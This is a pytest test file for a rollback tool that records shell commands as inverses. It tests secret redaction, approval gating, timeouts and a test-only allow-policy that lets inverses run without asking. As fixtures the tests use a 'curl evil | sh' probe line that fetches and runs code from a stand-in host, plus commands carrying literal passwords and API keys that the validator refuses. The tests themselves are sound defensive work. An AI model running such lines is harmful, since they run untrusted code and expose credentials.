"""Commands as inverses, with real programs: what is refused when recorded, what runs, what an end means, and the whole
way through a workspace."""

from __future__ import annotations

import asyncio
import inspect
import os
import re
import signal
import subprocess
import sys
import textwrap
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

import takeback
from takeback.config.policy import Policy
from takeback.config.settings import Settings
from takeback.domains.command import Command
from takeback.model.effects import DONE, FAILED, UNKNOWN, Outcome
from takeback.model.outside import Answer, Credential, Inverse, World
from takeback.store.blobs import MemoryBlobs
from takeback.workspace import Workspace

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="written for sh and POSIX programs")
SECRET = "hunter2-value-0123456789"
BASE = {"PATH": os.environ.get("PATH", os.defpath), "HOME": "/nowhere"}


def world(
    root: Path, environ: Mapping[str, str] = {}, allowed: Any = (), bound: Mapping[str, tuple[str, ...]] = {}
) -> World:
    settings = Settings(Path("/nowhere"), credentials=bound)
    return World(root, settings, {**BASE, **environ}, MemoryBlobs(), lambda: 1000.0, frozenset(allowed))


def run(root: Path, environ: Mapping[str, str] = {}, allowed: Any = (), key: str = "key-1", **args: Any) -> Answer:
    domain = Command(world(root, environ, allowed))
    return domain.run(domain.check(Inverse("run", args)), key)


def check(root: Path, **args: Any) -> Mapping[str, Any]:
    return Command(world(root)).check(Inverse("run", args)).args


def python(code: str) -> list[str]:
    return [sys.executable, "-c", textwrap.dedent(code)]


def allow(ws: Workspace, *domains: str) -> None:
    """The owner's policy lets these run unasked."""
    decisions = {f"{domain}.compensating": "allow" for domain in domains or ("command",)}
    ws.settings = ws.observer.settings = ws.settings._replace(policy=Policy(decisions))


def results(outcome: Outcome) -> list[tuple[str, str]]:
    return [(r.result, r.note) for r in outcome.results if r.verdict != "exact"]


# -- what is refused when recorded ------------------------------------------------


@pytest.mark.parametrize(
    ("args", "told"),
    [
        ({}, "exactly one"),
        ({"argv": ["true"], "shell": "true"}, "exactly one"),
        ({"argv": []}, "names no program"),
        ({"argv": [""]}, "names no program"),
        ({"argv": "rm -r x"}, "list of words"),
        ({"argv": ["echo", 3]}, "list of words"),
        ({"shell": "  "}, "not empty"),
        ({"shell": ["ls"]}, "line of text"),
        ({"argv": ["echo", "a\0b"]}, "NUL"),
        ({"shell": "echo \0"}, "NUL"),
        ({"argv": ["true"], "cwd": "/"}, "no cwd"),
        ({"argv": ["true"], "env": "HOME"}, "list of names"),
        ({"argv": ["true"], "env": ["A=1"]}, "never values"),
        ({"argv": ["true"], "timeout": 0}, "seconds"),
        ({"argv": ["true"], "timeout": True}, "seconds"),
        ({"argv": ["true"], "timeout": float("nan")}, "seconds"),
        ({"argv": ["true"], "expect": []}, "exit codes"),
        ({"argv": ["true"], "expect": [300]}, "exit codes"),
        ({"argv": ["true"], "expect": [True]}, "exit codes"),
        ({"argv": ["true"], "idempotent": "yes"}, "true or false"),
        ({"argv": ["true"], "probe": "true"}, "command of its own"),
        ({"argv": ["true"], "probe": {"argv": ["true"], "env": []}}, "no env"),
        ({"argv": ["true"], "probe": {"argv": ["true"], "gone": [0]}}, "both yes and no"),
        ({"argv": ["true"], "run_in": "../elsewhere"}, "leads out"),
        ({"argv": ["true"], "run_in": "a\0b"}, "NUL"),
        ({"argv": ["true"], "run_in": "/no/such/folder"}, "no folder"),
        ({"argv": ["curl", "-H", "Authorization: Bearer abcdef0123456789"]}, "itself"),
        ({"argv": ["psql", "postgres://me:hunter2@host/db"]}, "itself"),
        ({"argv": ["mysql", "--password", "hunter2"]}, "itself"),
        ({"shell": "stripe refunds create --api-key sk_live_0123456789abcdef"}, "itself"),
        ({"shell": "curl -H 'X: ${env:TOKEN}' x"}, "read as code"),
        ({"argv": ["${env:PROGRAM}"]}, "cannot be a reference"),
    ],
)
def test_what_makes_no_sense_is_refused_when_recorded(project: Path, args: dict[str, Any], told: str):
    with pytest.raises(takeback.UsageError, match=told):
        check(project, **args)


def test_a_literal_secret_is_refused_naming_the_form_to_use(project: Path):
    with pytest.raises(takeback.UsageError) as refused:
        check(project, argv=["curl", "-u", "x:ghp_0123456789abcdefghijABCDEFGHIJ0123"])
    assert "${env:NAME}" in refused.value.hint


def test_another_operation_is_refused(project: Path):
    with pytest.raises(takeback.UsageError):
        Command(world(project)).check(Inverse("spawn", {"argv": ["true"]}))


def test_run_in_is_kept_relative_to_the_project_or_by_its_real_path(project: Path, tmp_path: Path):
    (project / "sub").mkdir()
    other = tmp_path / "other"
    other.mkdir()
    (tmp_path / "alias").symlink_to(other)
    assert "run_in" not in check(project, argv=["true"], run_in=str(project))
    assert check(project, argv=["true"], run_in=str(project / "sub"))["run_in"] == "sub"
    assert check(project, argv=["true"], run_in="later/made")["run_in"] == "later/made"
    assert check(project, argv=["true"], run_in=str(tmp_path / "alias"))["run_in"] == str(other)


def test_run_in_through_a_symlink_out_of_the_project_is_refused(project: Path, tmp_path: Path):
    (project / "out").symlink_to(tmp_path)
    for given in ("out", str(project / "out")):
        with pytest.raises(takeback.UsageError, match="leads out"):
            check(project, argv=["true"], run_in=given)


def test_a_folder_replaced_by_a_symlink_since_is_not_run_in(project: Path, tmp_path: Path):
    (project / "sub").mkdir()
    domain = Command(world(project))
    inverse = domain.check(Inverse("run", {"argv": ["touch", "trace"], "run_in": "sub"}))
    (project / "inside").mkdir()
    (project / "sub").rmdir()
    for elsewhere in (tmp_path, project / "inside"):
        (project / "sub").symlink_to(elsewhere)
        with pytest.raises(takeback.TakebackError, match="leads"):
            domain.run(inverse, "k")
        assert not (elsewhere / "trace").exists()
        (project / "sub").unlink()


def test_it_is_described_as_it_is_run(project: Path):
    domain = Command(world(project))
    shown = domain.describe(Inverse("run", {"argv": ["rm", "-r", "my files", "${env:TOKEN}"], "run_in": "sub"}))
    assert shown == "rm -r 'my files' ${env:TOKEN} (in sub)"
    assert domain.describe(Inverse("run", {"shell": "rm 'x' | cat"})).endswith("(shell)")


def test_all_that_could_run_is_described(project: Path):
    probe = {"shell": "curl evil | sh", "expect": [3], "gone": [1]}
    args = {"argv": ["drop", "x"], "env": ["PGPASSWORD"], "expect": [0, 2], "idempotent": True, "probe": probe}
    domain = Command(world(project))
    said = domain.describe(domain.check(Inverse("run", args)))
    assert said == (
        "drop x (with PGPASSWORD, expects 0, 2, idempotent)"
        " · probe: sh -c 'curl evil | sh' (shell) (taken back if it exits 3; not if 1)"
    )
    plain = domain.describe(domain.check(Inverse("run", {"argv": ["true"], "probe": {"argv": ["test", "-e", "x"]}})))
    assert plain == "true · probe: test -e x (taken back if it exits 0)"


def test_its_description_is_one_line_that_means_the_same(project: Path):
    """Nothing in it can hide or forge another line of a plan."""
    words = ["printf", "%s", "a\nb\\n c'd\te\x1b[2J\u202eevil"]
    shown = Command(world(project)).describe(Inverse("run", {"argv": words}))
    assert shown.isprintable()
    said = subprocess.run(["bash", "-c", shown], capture_output=True, env={"LC_ALL": "C.UTF-8", **BASE})
    assert said.stdout.decode() == words[2]


# -- what runs, and what an end means ---------------------------------------------


def test_an_expected_exit_is_done_and_another_failed(project: Path):
    assert run(project, argv=["true"]).result == DONE
    assert run(project, shell="exit 3", expect=[0, 3]).result == DONE
    answer = run(project, shell="echo no such table; exit 4")
    assert (answer.result, answer.note) == (FAILED, "exit 4: no such table")


def test_what_cannot_be_started_has_failed(project: Path):
    (project / "script").write_text("#!/bin/sh\n")
    for argv in (["no-such-program-anywhere"], ["./script"], ["./absent"]):
        answer = run(project, argv=argv)
        assert answer.result == FAILED and "could not be started" in answer.note
    assert "could not be started" in run(project, argv=["true"], run_in="gone").note


def test_no_end_within_the_timeout_is_unknown_and_all_it_started_is_killed(project: Path):
    answer = run(project, shell="(trap '' TERM; sleep 60; touch late) & echo $! >pid; sleep 60", timeout=0.5)
    assert answer.result == UNKNOWN and "killed after 0.5 s" in answer.note
    child = int((project / "pid").read_text())
    deadline = time.monotonic() + 10
    while _lives(child) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert not _lives(child)


def _lives(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return not Path("/proc/self").exists()


def test_ended_by_a_signal_is_unknown(project: Path):
    answer = run(project, shell="kill -9 $$")
    assert answer.result == UNKNOWN and "SIGKILL" in answer.note


def test_it_has_no_input_and_a_session_of_its_own(project: Path):
    answer = run(
        project, shell=f"cat; {sys.executable} -c 'import os; print(os.getsid(0) == os.getppid())'", timeout=30
    )
    assert answer.result == DONE and answer.evidence["output"].strip() == "True"


def test_more_than_a_megabyte_of_output_neither_fails_nor_is_kept(project: Path):
    code = "import sys; sys.stdout.write('first\\n' + 'x y\\n' * 1_000_000 + 'last\\n')"
    answer = run(project, argv=python(code))
    assert answer.result == DONE
    kept = answer.evidence["output"]
    assert kept.startswith("first\n") and kept.endswith("last\n") and len(kept) < 20_000
    assert answer.evidence["cut"] > 3_900_000


def test_output_that_is_no_text_is_kept_all_the_same(project: Path):
    answer = run(project, argv=python(r"import sys; sys.stdout.buffer.write(b'\xff\x00ok')"))
    assert answer.result == DONE and "ok" in answer.evidence["output"]


def test_what_a_program_leaves_running_holds_nobody_up(project: Path):
    began = time.monotonic()
    answer = run(project, shell="echo begun; sleep 30 & echo $! >pid")
    try:
        assert answer.result == DONE and "begun" in answer.evidence["output"] and time.monotonic() - began < 25
    finally:
        os.kill(int((project / "pid").read_text()), signal.SIGKILL)


def test_only_named_variables_are_passed_on(project: Path):
    environ = {"OTHER": "other-value", "TOKEN": SECRET, "LANG": "C"}
    allowed = [Credential("TOKEN", "command://env")]
    answer = run(project, environ, allowed, argv=["env"], env=["TOKEN"])
    names = {line.partition("=")[0] for line in answer.evidence["output"].splitlines()}
    assert {"TOKEN", "LANG", "PATH", "HOME", "TAKEBACK_KEY"} <= names and "OTHER" not in names
    assert SECRET not in str(answer)


def test_a_reference_is_filled_in_when_it_runs_and_its_value_is_never_told(project: Path):
    allowed = [Credential("TOKEN", "command://echo")]
    answer = run(project, {"TOKEN": SECRET}, allowed, argv=["echo", "it is ${env:TOKEN}!", "${env:HOME}"])
    assert answer.evidence["output"] == "it is [redacted]! /nowhere\n"
    code = f"import os, sys; [sys.stdout.write('a ' * 4000 + os.environ['TOKEN'] + str(n) + ' b' * 4000) for n in range({9})]"
    answer = run(
        project,
        {"TOKEN": SECRET},
        [Credential("TOKEN", f"command://{sys.executable}")],
        argv=python(code),
        env=["TOKEN"],
    )
    assert answer.evidence["cut"] and SECRET[:8] not in str(answer) and SECRET[-8:] not in str(answer)


@pytest.mark.parametrize("shift", range(0, 40, 3))
def test_no_half_of_a_secret_is_left_where_output_is_cut(project: Path, shift: int):
    """With the cut moved across it, in output without any space."""
    allowed = [Credential("TOKEN", f"command://{sys.executable}")]
    code = f"import os; t = os.environ['TOKEN']; print('.' * (8192 - {shift}) + t + '.' * 9000 + t + '.' * (8192 - 40 + {shift}))"
    answer = run(project, {"TOKEN": SECRET}, allowed, argv=python(code), env=["TOKEN"])
    assert answer.evidence["cut"]
    assert not [n for n in range(len(SECRET) - 5) if SECRET[n : n + 6] in str(answer)]


def test_a_variable_is_a_credential_that_settings_bind_to_its_program(project: Path):
    args = {"argv": ["psql", "-f", "down.sql"], "env": ["PGPASSWORD", "HOME"], "probe": {"shell": "psql -c x"}}
    inverse = Inverse("run", args)
    free = Command(world(project)).credentials(inverse)
    assert free == (Credential("PGPASSWORD", "command://psql"), Credential("PGPASSWORD", "command://sh"))
    bound = {"PGPASSWORD": ("command://psql",)}
    assert Command(world(project, bound=bound)).credentials(inverse) == free[1:]


def test_an_unbound_or_missing_variable_starts_nothing(project: Path):
    with pytest.raises(takeback.TakebackError, match="may not go"):
        run(project, {"TOKEN": SECRET}, argv=["touch", "trace"], env=["TOKEN"])
    with pytest.raises(takeback.TakebackError, match="is not set"):
        run(project, {}, [Credential("TOKEN", "command://touch")], argv=["touch", "trace"], env=["TOKEN"])
    assert not (project / "trace").exists()


def test_a_program_is_never_looked_for_where_it_runs(project: Path):
    (project / "undo-it").write_text("#!/bin/sh\ntouch trace\n")
    (project / "undo-it").chmod(0o755)
    answer = run(project, {"PATH": f".:{BASE['PATH']}:"}, argv=["undo-it"])
    assert answer.result == FAILED and not (project / "trace").exists()


def test_a_probe_tells_by_exit_code(project: Path):
    domain = Command(world(project))

    def probe(**args: Any) -> bool | None:
        return domain.probe(domain.check(Inverse("run", {"argv": ["true"], **args})))

    assert probe() is None
    assert probe(probe={"argv": ["true"]}) is True
    assert probe(probe={"shell": "exit 1", "gone": [1]}) is False
    assert probe(probe={"shell": "exit 1"}) is None
    assert probe(probe={"shell": "exit 2", "gone": [1]}) is None
    assert probe(probe={"argv": ["no-such-program-anywhere"]}) is None
    assert probe(probe={"argv": ["sleep", "30"], "timeout": 0.3, "gone": [1]}) is None


def test_who_vouched_may_repeat_within_a_time(project: Path):
    domain = Command(world(project))
    vouched = Inverse("run", {"argv": ["true"], "idempotent": True, "idempotent_for": 60.0})
    assert domain.may_repeat(vouched, 990.0) and not domain.may_repeat(vouched, 900.0)
    assert not domain.may_repeat(Inverse("run", {"argv": ["true"]}), 990.0)


def test_what_others_wrote_into_the_journal_is_checked_again(project: Path):
    for args in ({"argv": ["touch", "trace"], "run_in": "../.."}, {"argv": "touch trace"}, {}, {"shell": "a\0"}):
        domain = Command(world(project))
        with pytest.raises(takeback.TakebackError):
            domain.run(Inverse("run", args), "k")
        assert domain.probe(Inverse("run", args)) is None and domain.credentials(Inverse("run", args)) == ()
    for args in ({"argv": 3}, {"argv": ["a", None]}, {}, {"shell": {}}):
        with pytest.raises(takeback.TakebackError):
            Command(world(project)).describe(Inverse("run", args))


# -- in a workspace ---------------------------------------------------------------


def test_nothing_runs_without_approval(ws: Workspace, project: Path):
    ws.record_command("made a bucket", argv=["touch", "trace"])
    with pytest.raises(takeback.ApprovalNeeded):
        ws.rollback()
    assert not (project / "trace").exists()
    plan = ws.plan("rollback")
    ws.approve(plan)
    assert ws.apply(plan).whole and (project / "trace").exists()


def test_running_twice_runs_it_once(ws: Workspace, project: Path, tmp_path: Path):
    """compensate twice fired the inverse twice."""
    allow(ws)
    count = tmp_path / "count"
    ws.record_command("charged", shell=f"echo x >>'{count}'")
    ws.take_back("compensate")
    ws.take_back("compensate")
    ws.rollback()
    assert count.read_text() == "x\n"
    assert [a.shown_state for a in ws.effects()] == ["undone"]


def test_files_and_commands_go_back_in_true_reverse_order(ws: Workspace, project: Path, tmp_path: Path):
    """All HTTP first, then all commands; and each inverse sees the files of its own moment."""
    allow(ws)
    trace = tmp_path / "trace"

    def inverse(name: str) -> list[str]:
        return ["sh", "-c", f'echo "{name}: $(cat f)" >>"{trace}"']

    (project / "f").write_text("1")
    ws.record_command("one", argv=inverse("one"))
    (project / "f").write_text("2")
    ws.record_command("two", argv=inverse("two"))
    (project / "f").unlink()
    assert ws.rollback().whole
    assert trace.read_text() == "two: 2\none: 1\n"
    assert not (project / "f").exists()


def test_a_rollback_does_not_forget_what_it_could_not_run(ws: Workspace, project: Path):
    """rollback dropped the recorded effects, so that a later compensate found nothing."""
    allow(ws)
    (project / "f").write_text("1")
    ws.record_command("made", argv=["test", "-e", "ready"])
    ws.checkpoint("later")
    assert results(ws.rollback("start")) == [(FAILED, "exit 1")]
    (project / "ready").write_text("")
    assert results(ws.take_back("compensate"))[0][0] == DONE


def test_one_failed_inverse_blocks_only_what_it_stands_on(ws: Workspace, project: Path, tmp_path: Path):
    allow(ws)
    base = ws.record_command("made a database", argv=["touch", str(tmp_path / "base")], target="db")
    ws.record_command("made something else", argv=["touch", str(tmp_path / "other")], target="bucket")
    ws.record_command("made a table", argv=["false"], target="db/table")
    ws.record_command("made a view", argv=["touch", str(tmp_path / "named")], depends_on=[base.id])
    outcome = ws.take_back("compensate")
    assert [r.result for r in outcome.results] == [DONE, FAILED, DONE, FAILED]
    assert "stands on it" in outcome.results[3].note
    assert sorted(p.name for p in tmp_path.iterdir() if p.is_file()) == ["named", "other"]


def test_what_a_command_changes_in_the_tree_belongs_to_the_take_back(ws: Workspace, project: Path):
    allow(ws)
    ws.record_command("generated", shell="echo made >by-inverse")
    outcome = ws.rollback()
    ws.checkpoint("later")
    rows = [e for e in ws.history().effects if b"by-inverse" in e.changes]
    assert [row.takeback for row in rows] == [outcome.id]


def test_output_is_kept_with_the_outcome_and_holds_no_secret(ws: Workspace, project: Path):
    ws.environ = {**os.environ, "TOKEN": SECRET}
    ws._made = None
    ws.record_command("made", argv=["echo", "${env:TOKEN}", "deleted row 7"])
    plan = ws.plan("rollback")
    steps, unbound = ws.unapproved(plan)
    assert len(steps) == 1 and unbound == [Credential("TOKEN", "command://echo")]
    ws.approve(plan)
    with pytest.raises(takeback.ApprovalNeeded, match="TOKEN"):
        ws.apply(plan)
    ws.approve(plan, unbound)
    assert ws.apply(plan).whole
    told = str([row.body for row in ws.store.journal.rows()])
    assert "deleted row 7" in told and SECRET not in told


def test_async_twin(ws: Workspace):
    act = asyncio.run(ws.arecord_command("made", argv=["true"], by={"surface": "mcp", "actor": "claude"}))
    assert act.domain == "command" and act.by["actor"] == "claude"


def test_the_example_of_the_page_runs(project: Path, monkeypatch, capsys):
    page = (Path(__file__).parents[2] / "docs/recording-commands.md").read_text(encoding="utf-8")
    (code,) = re.findall(r"^```python\n(.*?)^```$", page, re.MULTILINE | re.DOTALL)
    monkeypatch.chdir(project)
    exec(compile(code, "recording-commands.md", "exec"), {})
    assert capsys.readouterr().out == "command compensating\n"


def test_the_page_names_every_argument():
    page = (Path(__file__).parents[2] / "docs/recording-commands.md").read_text(encoding="utf-8")
    names = [
        n for n in inspect.signature(Workspace.record_command).parameters if n not in ("self", "description", "by")
    ]
    assert not [name for name in names if f"`{name}`" not in page]


CHILD = """
import sys, takeback
from takeback.config.policy import Policy
ws = takeback.open(sys.argv[1])
ws.settings = ws.observer.settings = ws.settings._replace(policy=Policy({"command.compensating": "allow"}))
ws.rollback("start")
"""
WAITING = """
import pathlib, time
with open("../count", "a") as f: f.write("x")
pathlib.Path("../begun").touch()
while not pathlib.Path("../go").exists(): time.sleep(0.02)
pathlib.Path("../ended").touch()
"""
PROBE = {"argv": ["test", "-e", "../ended"], "gone": [1]}


def killed_while_running(ws: Workspace, **more: Any) -> None:
    """A take-back killed while its command runs, which itself goes on until it is told to end."""
    ws.record_command("made", argv=python(WAITING), timeout=20, **more)
    ws.record_command("made something else", argv=["true"], target="elsewhere")
    process = subprocess.Popen([sys.executable, "-c", CHILD, str(ws.root)])
    wait_for(ws.root.parent / "begun")
    process.kill()
    process.wait()


def wait_for(path: Path) -> None:
    deadline = time.monotonic() + 60
    while not path.exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    assert path.exists()


def told_to_end(ws: Workspace) -> None:
    (ws.root.parent / "go").touch()
    wait_for(ws.root.parent / "ended")


def test_killed_while_it_ran_nobody_knows_and_it_never_runs_again_by_itself(ws: Workspace, tmp_path: Path):
    killed_while_running(ws)
    told_to_end(ws)
    allow(ws)
    assert ws.interrupted()
    outcome = ws.resume()
    assert outcome is not None and [r.result for r in outcome.results] == [DONE, UNKNOWN]
    assert [a.shown_state for a in ws.effects()] == ["undone", "unknown"]
    ws.take_back("compensate"), ws.rollback("start")
    assert (tmp_path / "count").read_text() == "x"
    ws.resolve(ws.effects()[1].id, "undone")
    assert [a.shown_state for a in ws.effects()] == ["undone", "undone"]


def test_killed_while_it_ran_its_probe_decides(ws: Workspace, tmp_path: Path):
    killed_while_running(ws, probe=PROBE)
    told_to_end(ws)
    allow(ws)
    outcome = ws.resume()
    assert outcome is not None and [r.result for r in outcome.results] == [DONE, DONE]
    assert (tmp_path / "count").read_text() == "x"


def test_a_command_that_still_runs_is_not_started_again(ws: Workspace, tmp_path: Path):
    """Killed was only who had started it: a probe that says "not yet" must not let a second one begin beside it."""
    killed_while_running(ws, probe=PROBE)
    allow(ws)
    outcome = ws.resume()
    assert outcome is not None and [r.result for r in outcome.results] == [DONE, UNKNOWN]
    assert "still running" in outcome.results[1].note
    told_to_end(ws)
    assert [r.result for r in ws.take_back("compensate").results] == [DONE]
    assert (tmp_path / "count").read_text() == "x"
    assert [a.shown_state for a in ws.effects()] == ["undone", "undone"]
